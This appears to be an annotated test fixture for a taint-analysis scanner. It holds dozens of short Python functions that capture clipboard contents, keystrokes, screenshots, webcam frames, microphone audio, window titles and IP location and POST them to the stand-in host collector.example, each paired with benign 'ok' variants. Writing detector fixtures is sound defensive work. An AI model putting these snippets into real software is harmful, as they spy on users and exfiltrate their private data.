"""Clipboard, keyboard, screen, camera, microphone, windows."""
import io
import wave

import cv2
import evdev
import geocoder
import ImageGrab as OldImageGrab
import keyboard
import mss
import mss.tools
import picamera
import pyautogui
import pyaudio
import pyHook
import pyperclip
import requests
import scipy.io.wavfile
import sounddevice
import speech_recognition
import win32clipboard
import win32gui
import Xlib.display
from PIL import Image, ImageGrab
from pynput.keyboard import GlobalHotKeys, Listener

U = "https://collector.example/u"


def clipboard():
    text = pyperclip.paste()  #~ source(CLIPBOARD) f1, capability(CLIPBOARD)
    requests.post(U, data=text)  #~ sink(egress.http) f1, finding(traced) f1


def clipboard_windows():
    text = win32clipboard.GetClipboardData()  #~ source(CLIPBOARD) f2, capability(CLIPBOARD)
    requests.post(U, data=text)  #~ sink(egress.http) f2, finding(traced) f2


def clipboard_window(window):
    text = window.clipboard_get()  #~ source(CLIPBOARD) f3, capability(CLIPBOARD)
    requests.post(U, data=text)  #~ sink(egress.http) f3, finding(traced) f3


def clipboard_set(window):
    pyperclip.copy("ping")  #~ capability(CLIPBOARD)
    pyperclip.copy("ping")  #~ ok
    requests.post(U, data={"empty": pyperclip.paste() == ""})  #~ ok
    requests.post(U, data={"empty": win32clipboard.GetClipboardData() == ""})  #~ ok
    requests.post(U, data={"empty": window.clipboard_get() == ""})  #~ ok


def send_key(key):
    requests.post(U, data=str(key))  #~ sink(egress.http) fkey, finding(traced) fkey


def count_key(key):
    return len(key)


def listen_keys():
    Listener(on_press=send_key)  #~ source(KEYSTROKE) fkey, capability(KEYBOARD)
    Listener(on_press=count_key)  #~ ok


def hot_keys():
    GlobalHotKeys({})  #~ capability(KEYBOARD)
    GlobalHotKeys({})  #~ ok


def recorded_keys():
    requests.post(U, data=keyboard.record())  #~ source(KEYSTROKE) f9, sink(egress.http) f9, finding(traced) f9, capability(KEYBOARD)


def send_hooked(event):
    requests.post(U, data=event.name)  #~ sink(egress.http) fhook, finding(traced) fhook


def hook_keys():
    keyboard.hook(send_hooked)  #~ source(KEYSTROKE) fhook, capability(KEYBOARD)
    keyboard.hook(count_key)  #~ ok
    requests.post(U, data={"none": keyboard.record() == []})  #~ ok


def send_windows_key(event):
    requests.post(U, data=event.Key)  #~ sink(egress.http) fwin, finding(traced) fwin


def hook_windows_keys():
    manager = pyHook.HookManager()
    manager.KeyDown = send_windows_key
    manager.HookKeyboard()  #~ source(KEYSTROKE) fwin, capability(KEYBOARD)


def hook_windows_quiet():
    manager = pyHook.HookManager()
    manager.KeyDown = count_key
    manager.HookKeyboard()  #~ ok


def device_keys():
    device = evdev.InputDevice("/dev/input/event0")  #~ source(KEYSTROKE) f15, capability(KEYBOARD)
    for event in device.read_loop():
        requests.post(U, data=event.code)  #~ sink(egress.http) f15, finding(traced) f15


def device_compared():
    device = evdev.InputDevice("/dev/input/event0")  #~ ok
    requests.post(U, data={"none": device.read_loop() == []})  #~ ok


def screen_grab():
    with mss.mss() as grabber:  #~ capability(SCREEN)
        image = grabber.grab(grabber.monitors[0])  #~ source(SCREEN) f17
        requests.post(U, data=image.rgb)  #~ sink(egress.http) f17, finding(traced) f17


def screen_png():
    image = mss.mss().grab({})  #~ source(SCREEN) f18
    requests.post(U, data=mss.tools.to_png(image.rgb, image.size))  #~ sink(egress.http) f18, finding(traced) f18


def screen_shot():
    mss.mss().shot(output="/tmp/mss.png")  #~ source(SCREEN) f19, capability(FILE_WRITE)
    requests.post(U, data=open("/tmp/mss.png", "a+b").read())  #~ sink(egress.http) f19, finding(traced) f19


def screen_compared():
    grabber = mss.mss()  #~ ok
    grabber.shot(output="/tmp/unsent.png")  #~ ok
    image = grabber.grab({})  #~ ok
    requests.post(U, data={"black": image == b""})  #~ ok
    requests.post(U, data=mss.tools.to_png(b"", 1))  #~ ok


def image_grab():
    image = ImageGrab.grab()  #~ source(SCREEN) f21, capability(SCREEN)
    requests.post(U, data=image.tobytes())  #~ sink(egress.http) f21, finding(traced) f21


def image_saved():
    buffer = io.BytesIO()
    ImageGrab.grab().save(buffer, "PNG")  #~ source(SCREEN) f22, capability(FILE_WRITE)
    requests.post(U, data=buffer.getvalue())  #~ sink(egress.http) f22, finding(traced) f22


def image_clipboard():
    image = ImageGrab.grabclipboard()  #~ source(CLIPBOARD) f23, capability(CLIPBOARD)
    requests.post(U, data=image.tobytes())  #~ sink(egress.http) f23, finding(traced) f23


def image_grab_old():
    image = OldImageGrab.grab()  #~ source(SCREEN) f24, capability(SCREEN)
    requests.post(U, data=image.tobytes())  #~ sink(egress.http) f24, finding(traced) f24


def image_opened():
    image = Image.open("/home/me/card.png")  #~ source(FILE) f25, capability(FILES)
    requests.post(U, data=image.tobytes())  #~ sink(egress.http) f25, finding(traced) f25


def image_opened_stream():
    image = Image.open(io.BytesIO(mss.mss().grab({}).rgb))  #~ source(SCREEN) f26
    requests.post(U, data=image.tobytes())  #~ sink(egress.http) f26, finding(traced) f26


def image_from_bytes():
    image = Image.frombytes("RGB", (1, 1), mss.mss().grab({}).bgra)  #~ source(SCREEN) f27
    requests.post(U, data=image.tobytes())  #~ sink(egress.http) f27, finding(traced) f27


def image_compared():
    requests.post(U, data=Image.frombytes("RGB", (1, 1), b"ping").tobytes())  #~ ok
    ImageGrab.grab().save("/tmp/unsent.png")  #~ ok
    requests.post(U, data={"none": ImageGrab.grabclipboard() == ""})  #~ ok
    requests.post(U, data={"none": Image.open("logo.png").tobytes() == b""})  #~ ok
    ImageGrab.grab()  #~ ok


def gui_screenshot():
    image = pyautogui.screenshot()  #~ source(SCREEN) f29, capability(SCREEN)
    requests.post(U, data=image.tobytes())  #~ sink(egress.http) f29, finding(traced) f29


def gui_window(screen):
    image = screen.grabWindow(0)  #~ source(SCREEN) f30, capability(SCREEN)
    requests.post(U, data=image)  #~ sink(egress.http) f30, finding(traced) f30


def gui_compared(screen):
    pyautogui.screenshot()  #~ ok
    requests.post(U, data={"none": screen.grabWindow(0) == b""})  #~ ok


def camera():
    capture = cv2.VideoCapture(0)  #~ capability(CAMERA)
    done, frame = capture.read()  #~ source(CAMERA) f32
    requests.post(U, data=frame)  #~ sink(egress.http) f32, finding(traced) f32


def camera_encoded():
    done, frame = cv2.VideoCapture(0).read()  #~ source(CAMERA) f33
    done, data = cv2.imencode(".jpg", frame)
    requests.post(U, data=data)  #~ sink(egress.http) f33, finding(traced) f33


def camera_written():
    done, frame = cv2.VideoCapture(0).read()  #~ source(CAMERA) f34
    cv2.imwrite("/tmp/cv2.jpg", frame)  #~ capability(FILE_WRITE)
    requests.post(U, data=open("/tmp/cv2.jpg", "a+b").read())  #~ sink(egress.http) f34, finding(traced) f34


def camera_file():
    image = cv2.imread("/home/me/card.png")  #~ source(FILE) f35, capability(FILES)
    requests.post(U, data=image)  #~ sink(egress.http) f35, finding(traced) f35


def camera_compared():
    capture = cv2.VideoCapture(0)  #~ ok
    done, frame = capture.read()  #~ ok
    requests.post(U, data={"done": done})  #~ ok
    done, data = cv2.imencode(".jpg", frame)  #~ ok
    cv2.imwrite("/tmp/unsent.jpg", frame)  #~ ok
    requests.post(U, data={"none": cv2.imread("logo.png") == ()})  #~ ok


def camera_pi():
    target = io.BytesIO()
    picamera.PiCamera().capture(target, "jpeg")  #~ source(CAMERA) f37, capability(CAMERA)
    requests.post(U, data=target.getvalue())  #~ sink(egress.http) f37, finding(traced) f37


def camera_pi_unsent():
    picamera.PiCamera().capture("/tmp/unsent.jpg")  #~ ok


def microphone():
    sound = sounddevice.rec(100)  #~ source(AUDIO) f39, capability(MICROPHONE)
    requests.post(U, data=sound)  #~ sink(egress.http) f39, finding(traced) f39


def send_sound(data, frames, time, status):
    requests.post(U, data=data)  #~ sink(egress.http) fsound, finding(traced) fsound


def count_sound(data, frames, time, status):
    return len(data)


def microphone_stream():
    sounddevice.InputStream(callback=send_sound)  #~ source(AUDIO) fsound, capability(MICROPHONE)


def microphone_stream_read():
    stream = sounddevice.InputStream()
    data, overflowed = stream.read(100)  #~ source(AUDIO) f43
    requests.post(U, data=data)  #~ sink(egress.http) f43, finding(traced) f43


def microphone_old():
    stream = pyaudio.PyAudio().open(format=8)  #~ capability(MICROPHONE)
    requests.post(U, data=stream.read(100))  #~ source(AUDIO) f44, sink(egress.http) f44, finding(traced) f44


def microphone_speech():
    recognizer = speech_recognition.Recognizer()
    sound = recognizer.listen(None)  #~ source(AUDIO) f45, capability(MICROPHONE)
    recognizer.recognize_google(sound)  #~ sink(egress.http) f45, finding(traced) f45, capability(NETWORK)


def microphone_written():
    sound = sounddevice.rec(100)  #~ source(AUDIO) f46
    buffer = io.BytesIO()
    scipy.io.wavfile.write(buffer, 44100, sound)  #~ capability(FILE_WRITE)
    requests.post(U, data=buffer.getvalue())  #~ sink(egress.http) f46, finding(traced) f46


def microphone_wave():
    sound = sounddevice.rec(100)  #~ source(AUDIO) f47
    buffer = io.BytesIO()
    wave.open(buffer, "wb").writeframes(sound)  #~ capability(FILE_WRITE)
    requests.post(U, data=buffer.getvalue())  #~ sink(egress.http) f47, finding(traced) f47


def microphone_compared():
    sounddevice.InputStream(callback=count_sound)  #~ ok
    requests.post(U, data={"quiet": sounddevice.rec(100) == ()})  #~ ok
    requests.post(U, data={"quiet": sounddevice.InputStream().read(1) == ()})  #~ ok
    stream = pyaudio.PyAudio().open(format=8)  #~ ok
    requests.post(U, data={"quiet": stream.read(100) == b""})  #~ ok
    recognizer = speech_recognition.Recognizer()
    recognizer.listen(None)  #~ ok
    recognizer.recognize_google(b"ping")  #~ ok
    buffer = io.BytesIO()
    scipy.io.wavfile.write(buffer, 44100, b"ping")  #~ ok
    wave.open(buffer, "wb").writeframes(b"ping")  #~ ok
    requests.post(U, data=buffer.getvalue())  #~ ok


def window_title():
    title = win32gui.GetWindowText(0)  #~ source(PROCESS) f49, capability(PROCESSES)
    requests.post(U, data=title)  #~ sink(egress.http) f49, finding(traced) f49


def place():
    here = geocoder.ip("me")  #~ source(LOCATION) f50, capability(LOCATION), capability(NETWORK)
    requests.post(U, data=here.latlng)  #~ sink(egress.http) f50, finding(traced) f50


def window_compared():
    requests.post(U, data={"none": win32gui.GetWindowText(0) == ""})  #~ ok
    requests.post(U, data={"none": geocoder.ip("me") == ()})  #~ ok


def x_screen():
    screen = Xlib.display.Display().screen()
    image = screen.root.get_image(0, 0, 9, 9, 2, 0xFFFFFFFF)  #~ source(SCREEN) f90
    requests.post(U, data=image.data)  #~ sink(egress.http) f90, finding(screen-capture, traced) f90
    Xlib.display.Display().screen().root.get_image(0, 0, 9, 9, 2, 0)  #~ ok
    requests.post(U, data=screen.root.get_geometry().width)  #~ ok
